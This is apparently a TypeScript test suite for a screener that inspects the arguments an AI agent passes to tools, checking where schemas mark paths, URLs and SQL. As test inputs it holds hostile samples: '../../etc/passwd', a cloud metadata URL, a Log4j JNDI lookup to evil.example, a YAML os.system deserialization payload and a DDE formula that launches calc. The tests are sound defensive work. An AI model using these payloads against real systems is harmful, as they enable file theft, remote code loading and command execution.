/** What a text in the arguments is for, wherever it is said: in every part of a schema, in a description, by an operator. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { JsonObject, JsonValue } from '../../src/core/json.ts'
import { createScreen } from '../../src/inspect/input.ts'
import type { ArgumentRule } from '../../src/inspect/kinds.ts'

const PATH = { type: 'string', format: 'path' }
const TEXT = { type: 'string' }
const CLIMBING = '../../etc/passwd'

/** `pointer label` of every finding. */
function found(schema: JsonObject, args: JsonObject, rules: Readonly<Record<string, ArgumentRule>> = {}): readonly string[] {
  const screen = createScreen({ level: 'standard', tools: { 's/*': { arguments: rules } } })
  const tool = screen({ server: 's', name: 't', inputSchema: { type: 'object', ...schema } })
  return tool(args).map(({ pointer, label }) => `${pointer} ${label}`)
}

const one = (name: string, schema: JsonValue): JsonObject => ({ properties: { [name]: schema } })

describe('a format counts wherever the schema says it', () => {
  const places: readonly (readonly [keyword: string, schema: JsonObject, args: JsonObject, pointer: string])[] = [
    ['additionalProperties', { additionalProperties: PATH }, { a: CLIMBING }, '/a'],
    ['additionalProperties of a member', one('m', { additionalProperties: PATH }), { m: { a: [CLIMBING] } }, '/m/a/0'],
    ['patternProperties', { patternProperties: { '^x': PATH } }, { xa: CLIMBING }, '/xa'],
    ['patternProperties, of a named one', { ...one('xa', TEXT), patternProperties: { '^x': PATH } }, { xa: CLIMBING }, '/xa'],
    ['unevaluatedProperties', { unevaluatedProperties: PATH }, { a: CLIMBING }, '/a'],
    ['propertyNames', one('m', { propertyNames: PATH }), { m: { '..': 1 } }, '/m/..'],
    // biome-ignore lint/suspicious/noThenProperty: a keyword of JSON Schema.
    ['then', { if: true, then: one('v', PATH) }, { v: CLIMBING }, '/v'],
    ['else', { if: true, else: one('v', PATH) }, { v: CLIMBING }, '/v'],
    ['if', { if: one('v', PATH) }, { v: CLIMBING }, '/v'],
    ['dependentSchemas', { dependentSchemas: { k: one('v', PATH) } }, { k: 1, v: CLIMBING }, '/v'],
    ['dependencies', { dependencies: { k: one('v', PATH) } }, { k: 1, v: CLIMBING }, '/v'],
    ['contains', one('v', { contains: PATH }), { v: [CLIMBING] }, '/v/0'],
    ['prefixItems', one('v', { prefixItems: [TEXT, PATH] }), { v: ['a', CLIMBING] }, '/v/1'],
    ['prefixItems in items', one('v', { items: { prefixItems: [TEXT, PATH] } }), { v: [['a', CLIMBING]] }, '/v/0/1'],
    ['items as a tuple', one('v', { items: [TEXT, PATH] }), { v: ['a', CLIMBING] }, '/v/1'],
    ['additionalItems', one('v', { items: [TEXT], additionalItems: PATH }), { v: ['a', CLIMBING] }, '/v/1'],
    ['unevaluatedItems', one('v', { unevaluatedItems: PATH }), { v: [CLIMBING] }, '/v/0'],
    ['$ref', { ...one('v', { $ref: '#/$defs/a%20b' }), $defs: { 'a b': PATH } }, { v: CLIMBING }, '/v'],
    ['$ref into a list', { ...one('v', { $ref: '#/allOf/0/properties/w' }), allOf: [one('w', PATH)] }, { v: CLIMBING }, '/v'],
  ]
  for (const [keyword, schema, args, pointer] of places)
    test(keyword, () => assert.deepEqual(found(schema, args), [`${pointer} path-traversal`]))

  test('and nowhere else: others are what they were', () => {
    const schema = { ...one('named', TEXT), patternProperties: { '^x': PATH }, additionalProperties: { type: 'string' } }
    assert.deepEqual(found(schema, { named: CLIMBING, other: CLIMBING }), [])
    assert.deepEqual(found({ ...one('named', TEXT), additionalProperties: PATH }, { named: CLIMBING }), [])
    const pair = one('v', { prefixItems: [PATH, { type: 'string', format: 'uri' }] })
    assert.deepEqual(found(pair, { v: ['a/b', 'https://example.com/../x'] }), [])
    assert.deepEqual(found(pair, { v: ['a/b', 'http://127.0.0.1/'] }), ['/v/1 private-address'])
  })

  test('at every depth of a schema that leads back to itself, and beside it', () => {
    const node = { properties: { left: { $ref: '#/$defs/node' }, right: { $ref: '#/$defs/node' }, value: PATH } }
    const schema = { properties: { tree: { $ref: '#/$defs/node' }, target: PATH }, $defs: { node } }
    let tree: JsonObject = { value: CLIMBING }
    for (let depth = 0; depth < 40; depth++) tree = { right: tree }
    assert.deepEqual(found(schema, { tree, target: CLIMBING }), [
      `/tree${'/right'.repeat(40)}/value path-traversal`,
      '/target path-traversal',
    ])
  })

  test('and no schema is gone through for long', () => {
    const names = Array.from({ length: 1_000 }, (_, at) => `n${at}`)
    const $defs = Object.fromEntries(
      names.map((name, at) => [
        name,
        { properties: Object.fromEntries(names.map((each) => [each, { $ref: `#/$defs/${each}`, title: `${at}` }])) },
      ]),
    )
    const patterns = Object.fromEntries(names.map((name) => [`[\\p{L}${name}]{1,99}`, PATH]))
    const startedAt = performance.now()
    found({ $ref: '#/$defs/n0', $defs, patternProperties: patterns }, { n1: { n2: CLIMBING } })
    assert.ok(performance.now() - startedAt < 5_000)
  })
})

describe('a description says what a text is for, where its name does not', () => {
  const kindOf = (description: string): string => {
    const inputSchema = one('value', { type: 'string', description })
    const screen = createScreen({ level: 'standard', tools: {} })({ server: 's', name: 't', inputSchema })
    const [finding] = [CLIMBING, 'http://169.254.169.254/', 'DROP TABLE users'].flatMap((value) => screen({ value }))
    return finding?.detector.replace('input/', '') ?? 'text'
  }
  const said: Readonly<Record<string, readonly string[]>> = {
    path: [
      'The file path',
      'File path to read',
      'Absolute path',
      'Output directory path, relative to the root',
      'The path.',
      "The project's folder path",
    ],
    url: ['Web page URL', 'URL', 'The image URL to describe', 'Full URL of the page', 'Callback URL (https only)', 'The URI'],
    sql: ['SQL', 'SQL to run', 'The SQL query', 'A read-only SQL statement to execute', 'SQL: one statement'],
    text: [
      'A text about file paths',
      'Name of the URL',
      'The title or URL',
      'URL-encoded text',
      'SQL dialect',
      'SQL server name',
      'What the user wants to know about the file path',
    ],
  }
  for (const [kind, descriptions] of Object.entries(said))
    for (const description of descriptions) test(`${description}: ${kind}`, () => assert.equal(kindOf(description), kind))
})

test('what an operator has written is found by a name with dots, by a place within an argument and by a pointer', () => {
  const rules = { 'a.b': { kind: 'path' }, '/c/d.e': { kind: 'path' }, '/f~1g': { kind: 'path' }, 'h.i.j': { kind: 'path' } } as const
  for (const schema of [{}, { properties: { a: TEXT, 'a.b': TEXT, c: { type: 'object', properties: { 'd.e': TEXT } } } }]) {
    assert.deepEqual(found(schema, { 'a.b': CLIMBING }, rules), ['/a.b path-traversal'])
    assert.deepEqual(found(schema, { a: [{ b: CLIMBING, c: CLIMBING }] }, rules), ['/a/0/b path-traversal'])
    assert.deepEqual(found(schema, { c: { 'd.e': CLIMBING, d: { e: CLIMBING } } }, rules), ['/c/d.e path-traversal'])
    assert.deepEqual(found(schema, { 'f/g': CLIMBING, f: { g: CLIMBING } }, rules), ['/f~1g path-traversal'])
    assert.deepEqual(found(schema, { 'h.i': { j: CLIMBING }, h: { 'i.j': CLIMBING } }, rules), [
      '/h.i/j path-traversal',
      '/h/i.j path-traversal',
    ])
  }
})

describe('what is put into a file', () => {
  const WRITING = { properties: { path: TEXT, content: TEXT, note: TEXT } }
  const FILES: readonly string[] = [
    '<?php echo 1;',
    '<%= render "head" %>',
    '<%@ page import="java.util.*" %>',
    '<!--#include virtual="/head.html" -->',
    '<?xml version="1.0"?><!DOCTYPE note [ <!ENTITY writer SYSTEM "writer.txt"> ]><note/>',
    '#include <stdio.h>\n\f\nint main(void) { return 0; }',
    '{{ 7*7 }} {% for x in self.__class__.__mro__ %}',
    '- run: cat words | "/usr/bin/sort"',
    "' or 1=1 is how it begins",
  ]

  test('is a source, a page or a document: what is dangerous in words for people is ordinary there', () => {
    const edit = { properties: { file_path: TEXT, old_string: TEXT, new_string: TEXT } }
    const edits = { properties: { path: TEXT, edits: { type: 'array', items: { properties: { oldText: TEXT, newText: TEXT } } } } }
    const files = one('files', { type: 'array', items: { properties: { path: TEXT, content: TEXT } } })
    const gist = one('files', { type: 'object', additionalProperties: { type: 'object', properties: { content: TEXT } } })
    const described = { properties: { path: TEXT, body: { type: 'string', description: 'The text to write' } } }
    for (const text of FILES) {
      assert.deepEqual(found(WRITING, { path: 'a/b.php', content: text }), [], text)
      assert.deepEqual(found(edit, { file_path: 'a', old_string: text, new_string: text }), [], text)
      assert.deepEqual(found(edits, { path: 'a', edits: [{ oldText: text, newText: text }] }), [], text)
      assert.deepEqual(found(files, { files: [{ path: 'a', content: text }] }), [], text)
      assert.deepEqual(found(gist, { files: { 'a.php': { content: text } } }), [], text)
      assert.deepEqual(found(one('files', { type: 'object' }), { files: { 'a.php': { content: text } } }), [], text)
      assert.deepEqual(found(described, { path: 'a', body: text }), [], text)
    }
  })

  test('is what the definition tells beside a path: elsewhere, and where only the caller says so, it is somebody’s words', () => {
    for (const schema of [WRITING, { properties: { content: TEXT } }, {}])
      for (const name of ['note', 'content'])
        if (schema !== WRITING || name === 'note')
          assert.deepEqual(found(schema, { path: 'a', [name]: '<?php echo 1;' }), [`/${name} server-directive`])
    const asText = found(WRITING, { path: 'a', content: '<?php echo 1;' }, { content: { kind: 'text' } })
    assert.deepEqual(asText, ['/content server-directive'])
    assert.deepEqual(found({}, { content: '<?php echo 1;' }, { content: { kind: 'content' } }), [])
  })

  test('is still told where it acts on whoever stores, logs or opens it, and the path beside it is a path', () => {
    const acting: readonly (readonly [text: string, label: string])[] = [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup of Log4j.
      ['<?php ${jndi:ldap://evil.example/a}', 'lookup-injection'],
      ['a: !!python/object/apply:os.system ["id"]', 'deserialization'],
      ["=cmd|' /C calc'!A0", 'formula-injection'],
      ['\u001b]0;title\u0007', 'terminal-escape'],
      ['a\u0000b', 'control-characters'],
      ['a\u202eb', 'bidi-override'],
    ]
    for (const [content, label] of acting) assert.deepEqual(found(WRITING, { path: 'a', content }), [`/content ${label}`], label)
    assert.deepEqual(found(WRITING, { path: CLIMBING, content: '' }), ['/path path-traversal'])
    const written = { files: { kind: 'path' } } as const
    assert.deepEqual(found({}, { files: { content: CLIMBING } }, written), ['/files/content path-traversal'])
    assert.deepEqual(found({}, { files: { a: { content: CLIMBING } } }, written), ['/files/a/content path-traversal'])
  })
})
